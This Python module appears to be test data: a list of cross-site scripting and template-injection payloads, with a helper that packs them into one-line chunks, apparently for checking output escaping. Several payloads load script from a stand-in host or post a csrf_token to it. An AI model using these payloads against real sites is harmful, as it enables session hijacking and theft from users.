"""What somebody types who wants a page to run it, from the known collections of such texts, ours among them.

None of these is data for anybody: each tries to leave the place where a page shows what people typed.
"""

from collections.abc import Iterator
from typing import Final

PAYLOADS: Final = (
    # elements
    "<script>pwn()</script>",
    "<SCRIPT SRC=//e.x/x></SCRIPT>",
    "<scr<script>ipt>pwn()</scr</script>ipt>",
    "<img src=x onerror=pwn()>",
    "<img/src=x/onerror=pwn()//",
    "<svg onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><animate onbegin=pwn() attributeName=x>",
    "<svg><use href=data:image/svg+xml,x#x>",
    "<math><mtext><a xlink:href=javascript:pwn()>x",
    "<iframe srcdoc='<script>pwn()</script>'>",
    "<object data=javascript:pwn()>",
    "<embed src=//e.x/x>",
    "<details open ontoggle=pwn()>",
    "<input autofocus onfocus=pwn()>",
    "<video><source onerror=pwn()>",
    "<body onload=pwn()>",
    "<base href=//e.x/>",
    "<link rel=stylesheet href=//e.x>",
    "<meta http-equiv=refresh content=0;url=//e.x>",
    "<form action=//e.x><input name=csrf_token>",
    "<a href=javascript:pwn()>read on</a>",
    "<a href='jav&#x09;ascript:pwn()'>x</a>",
    "<style>*{background:url(//e.x)}</style>",
    "<template><script>pwn()</script></template>",
    # the ends of what surrounds it
    "</script><script>pwn()</script>",
    "</script ><img src=x onerror=pwn()>",
    "</title><script>pwn()</script>",
    "</textarea><img src=x onerror=pwn()>",
    "</style><svg onload=pwn()>",
    "</select><img src=x onerror=pwn()>",
    "</template><img src=x onerror=pwn()>",
    "--><img src=x onerror=pwn()><!--",
    "]]><img src=x onerror=pwn()>",
    "<!--<script>",
    # out of an attribute
    '" onmouseover="pwn()',
    "' onmouseover='pwn()",
    '" autofocus onfocus=pwn() x="',
    '"><img src=x onerror=pwn()>',
    "'><svg/onload=pwn()>",
    "` onclick=pwn() `",
    " onclick=pwn() ",
    '\\"><img src=x onerror=pwn()>',
    # out of JSON and JavaScript
    '"};pwn();//',
    "';pwn();//",
    "\\u003cimg src=x onerror=pwn()\\u003e",
    "\\x3cscript\\x3epwn()",
    # htmx
    '" hx-get="js:pwn()" hx-trigger="load',
    "<div hx-get=js:pwn() hx-trigger=load>",
    "<p hx-post=/sign-out hx-trigger=load>",
    "<p data-hx-on:click=pwn()>",
    "<hx-partial hx-target=body>x",
    # guidelines, which know a little Markdown
    "[x](javascript:pwn())",
    '![x](x" onerror="pwn())',
    "**<img src=x onerror=pwn()>**",
    "`</code><svg onload=pwn()>`",
    "<javascript:pwn()>",
    # templates and formats
    "{{31337*31337}}",
    "{%for x in ()%}{%endfor%}",
    "${31337*31337}#{31337*31337}",
    "{0.__class__}%(x)s%n",
    # addresses
    "javascript:pwn()",
    "data:text/html,<script>pwn()</script>",
    "//e.x",
    # letters
    "＜script＞pwn()＜/script＞",
    "\u02bascript\u02ba onx=\u2039pwn()\u203a",
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "&#60;img src=x onerror=pwn()&#62;",
    "%3Cscript%3Epwn()%3C/script%3E",
    "+ADw-script+AD4-pwn()+ADw-/script+AD4-",
    "<ſcript>pwn()</ſcript>",
    "<img src=x\u00a0onerror=pwn()>",
)
COMPUTED: Final = "982007569"
"""What a template that ran `31337*31337` would show."""


def lines(limit: int = 80) -> Iterator[str]:
    """All of it in pieces that fit into a field of one line, several payloads to a piece."""
    piece = ""
    for payload in PAYLOADS:
        if piece and len(piece) + 1 + len(payload) > limit:
            yield piece
            piece = ""
        piece = f"{piece} {payload}" if piece else payload
    yield piece
